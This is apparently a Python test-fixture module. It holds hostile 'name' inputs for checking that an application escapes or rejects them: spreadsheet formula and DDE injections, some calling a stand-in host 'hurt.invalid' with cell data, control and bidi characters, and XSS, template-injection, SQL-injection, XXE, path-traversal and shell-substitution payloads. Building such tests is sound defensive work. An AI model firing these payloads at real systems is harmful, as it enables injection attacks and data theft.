"""Names as somebody would send them who wants something else than a plan: one a kind, and a few of the cunning."""

from __future__ import annotations

#: What a spreadsheet, a shell or an eye would take for something else: refused at the door, in every name.
REFUSED = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "＝1+1",
    "＠SUM(1)",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://hurt.invalid/?"&A1,"Бяла")',
    '=WEBSERVICE("http://hurt.invalid/")',
    '=IMPORTXML(CONCAT("http://hurt.invalid/",A1),"//a")',
    '=DDE("cmd";"/C calc";"!A0")',
    "Бяла;=cmd|' /C calc'!A0;",
    "Бяла;+HYPERLINK(A1)",
    "Бяла,@SUM(1)",
    "Бяла|=1+1",
)
#: The same with signs that a reader of tables takes away, or that end the file: refused, or gone before anybody sees.
CONTROLS = (
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "Бя\x00ла",
    "Бяла\x1b[2J\x1b]0;hurt\x07",
    "Бяла\x7f",
    "\u202eгнп.exe",
    "\u2066Бяла\u2069",
    "Бяла\U000e0041\U000e007f",
)
#: What may well be a name, and has to stay one: shown letter by letter, and nothing else happens.
ALIVE = (
    "<script>window.hurt=1</script>",
    "</script><script>window.hurt=1</script>",
    "<!--<script>",
    "a --><script>window.hurt=1</script>",
    "]]><script>window.hurt=1</script>",
    "</title><script>window.hurt=1</script>",
    "</style><script>window.hurt=1</script>",
    "</textarea></select></svg><script>window.hurt=1</script>",
    "<img src=x onerror=window.hurt=1>",
    "<img src=http://hurt.invalid/x.png>",
    "<svg onload=window.hurt=1>",
    "<svg><animate onbegin=window.hurt=1 attributeName=x dur=1s>",
    "<iframe src='javascript:parent.hurt=1'></iframe>",
    "<object data='http://hurt.invalid/'></object>",
    "<link rel=stylesheet href=http://hurt.invalid/a.css>",
    "<meta http-equiv=refresh content='0;url=http://hurt.invalid/'>",
    "<base href=http://hurt.invalid/>",
    "<form action=http://hurt.invalid/><button>",
    "<a href='javascript:window.hurt=1'>x</a>",
    "javascript:window.hurt=1",
    "data:text/html,<script>parent.hurt=1</script>",
    '" onfocus=window.hurt=1 autofocus x="',
    "' onmouseover=window.hurt=1 '",
    "`-window.hurt-`",
    "{{ 7*7 }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in () %}{% endfor %}",
    "{# gone #}",
    "{% raise %}",
    "${window.hurt=1}",
    "#{window.hurt=1}",
    "<%= 7*7 %>",
    "{0} {names} {x!r} %s %(x)s",
    "&lt;b&gt; &amp; &#x3c; &quot;",
    '&e; <!ENTITY e SYSTEM "file:///etc/passwd">',
    '<?xml version="1.0"?><!DOCTYPE q [<!ENTITY e "x">]>',
    "url(http://hurt.invalid/a.png)",
    "}</style>*{background:url(//hurt.invalid)}",
    "expression(window.hurt=1)",
    'a"b""c, d; e',
    "'; DROP TABLE municipalities; --",
    "\"; ATTACH DATABASE 'x' AS y; --",
    "$$; COPY x TO PROGRAM 'id'; $$",
    "$x^2$ \\frac{1}{2} $\\unknown$",
    "__proto__",
    "constructor.prototype",
    "../../../x",
    "..\\..\\x",
    "\\\\hurt.invalid\\share\\x",
    "file:///etc/passwd",
    "/vsicurl/http://hurt.invalid/x",
    "CON",
    "NUL.txt",
    "name. ",
    "[A1](http://hurt.invalid) ![x](http://hurt.invalid/x.png)",
    "$(touch hurt) `touch hurt` ; touch hurt",
    "%2e%2e%2f %00 %0d%0aSet-Cookie:hurt",
    "a -- b <= c & d",
)
PAYLOADS = (*REFUSED, *CONTROLS, *ALIVE)


def name(number: int) -> str:
    """A name that holds every living payload, each time another one first."""
    at = number % len(ALIVE)
    return " · ".join((*ALIVE[at:], *ALIVE[:at])).strip() + f" {number}"
